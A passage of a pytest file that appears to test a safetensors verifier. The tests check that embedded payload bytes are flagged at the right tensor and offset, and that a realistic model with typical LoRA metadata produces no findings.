    if head.startswith(b"\x7fELF"):
        found["an ELF "] = head
    return found


def _weights(n: int, seed: int) -> dict:
    import ml_dtypes

    rng = np.random.default_rng(seed)
    return {
        "f32": rng.standard_normal(n).astype(np.float32) * 0.02,
        "bf16": (rng.standard_normal(n) * 0.02).astype(ml_dtypes.bfloat16),
    }


@pytest.mark.parametrize("deep", [False, True], ids=["at-the-start", "deep-inside"])
def test_payloads_in_tensors_are_found_where_they_sit(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], deep: bool
) -> None:
    # At a tensor's start: found by the quick look; 100,000 bytes into a
    # float tensor: found when --values reads every byte, never before.
    for what, payload in _payloads(tmp_path).items():
        if deep and "text that calls code" in what:
            continue  # text without a #! line counts at a tensor's start only
        path = tmp_path / "m.safetensors"
        w = _weights(1 << 16, 1)["f32"].copy()
        at = 100_000 if deep else 0
        w.view(np.uint8)[at : at + len(payload)] = np.frombuffer(payload, np.uint8)
        fastst.numpy.save_file({"a.weight": np.ones(4, np.float32), "b.weight": w}, path)
        data_start = 8 + struct.unpack("<Q", path.read_bytes()[:8])[0]
        code, doc = run_json(["verify", "--json", "--values", str(path)], capsys)
        (report,) = doc
        (f,) = [f for f in report["findings"] if f["rule"] == "tensor-payload"]
        assert f["message"].split(" hold ")[1].startswith(what), (what, f["message"])
        assert (f["tensor"], f["offset"]) == ("b.weight", data_start + 16 + at)
        assert f["verdict"] == "red-flag" and code == 1 and report["accepted"]
        code, doc = run_json(["verify", "--json", str(path)], capsys)
        rules = [f["rule"] for f in doc[0]["findings"]]
        assert rules == ([] if deep else ["tensor-payload"]), (what, rules)


def test_a_real_looking_model_holds_no_payload(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Random BF16 and F32 weights, integer and byte tensors, the metadata
    # real LoRAs and checkpoints carry (JSON, hashes, a base64 thumbnail, a
    # description with a usage example): no finding, quick look or full scan.
    import base64
    import hashlib

    tensors: dict = {}
    for i in range(4):
        w = _weights(1 << 15, i)
        tensors[f"model.layers.{i}.self_attn.q_proj.weight"] = w["bf16"].reshape(256, 128)
        tensors[f"model.layers.{i}.mlp.up_proj.weight"] = w["f32"].reshape(128, 256)
    tensors["model.embed_tokens.weight"] = _weights(1 << 16, 9)["bf16"].reshape(512, 128)
    tensors["position_ids"] = np.arange(4096, dtype=np.int64)
    rng = np.random.default_rng(5)
    tensors["quant.weight_scale"] = rng.integers(0, 256, 1 << 16, dtype=np.uint8)
    thumb = base64.b64encode(rng.integers(0, 256, 3000, dtype=np.uint8).tobytes()).decode()
    metadata = {
        "format": "pt",
        "modelspec.title": "tiny",
        "modelspec.thumbnail": "data:image/png;base64," + thumb,
        "modelspec.description": "Load with `pipe.load_lora_weights(path)`; then model.eval().",
        "ss_tag_frequency": json.dumps({"10_sks dog": {"sks": 10, "dog": 9}}),
        "ss_network_module": "networks.lora",
        "sshs_model_hash": hashlib.sha256(b"x").hexdigest(),
        "ssmd_source": "https://civitai.com/models/12345?modelVersionId=678",
    }
    path = tmp_path / "model.safetensors"
    fastst.numpy.save_file(tensors, path, metadata=metadata)
    for args in ([], ["--values"]):
        code, doc = run_json(["verify", "--json", *args, str(path)], capsys)
        assert code == 0 and doc[0]["findings"] == [], doc[0]["findings"]
